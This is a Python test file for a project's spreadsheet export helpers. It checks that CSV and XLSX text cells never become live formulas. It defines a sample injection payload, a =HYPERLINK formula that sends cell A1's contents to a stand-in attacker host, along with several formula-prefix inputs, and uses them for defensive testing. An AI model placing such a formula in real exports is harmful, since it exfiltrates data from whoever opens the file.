"""Every text cell of every export is text: a name like =HYPERLINK(…) never becomes a live
formula in a cofinancer's or payer's spreadsheet (issue 14, hole 7)."""
from __future__ import annotations

import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from nutriplat.spreadsheets import csv_text, xlsx_text

ATTACK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


@pytest.mark.parametrize("text", [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_csv_cell_that_would_start_a_formula_starts_with_a_quote(text):
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("value", ["Screening coverage", "85+", "", Decimal("-1.50"), -3, 2.5, None])
def test_other_text_and_every_number_are_left_as_they_are(value):
    assert csv_text(value) == value


def test_an_xlsx_text_cell_is_stored_as_a_string_never_as_a_formula():
    book = openpyxl.Workbook()
    book.active.append(["agreement", ATTACK, "-minus", -1.5])
    buffer = io.BytesIO()
    xlsx_text(book).save(buffer)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as package:
        assert "<f>" not in package.read("xl/worksheets/sheet1.xml").decode()
    cells = next(openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows(values_only=False))
    assert [c.data_type for c in cells] == ["s", "s", "s", "n"]
    assert cells[1].value == ATTACK and cells[1].quotePrefix and cells[3].value == -1.5
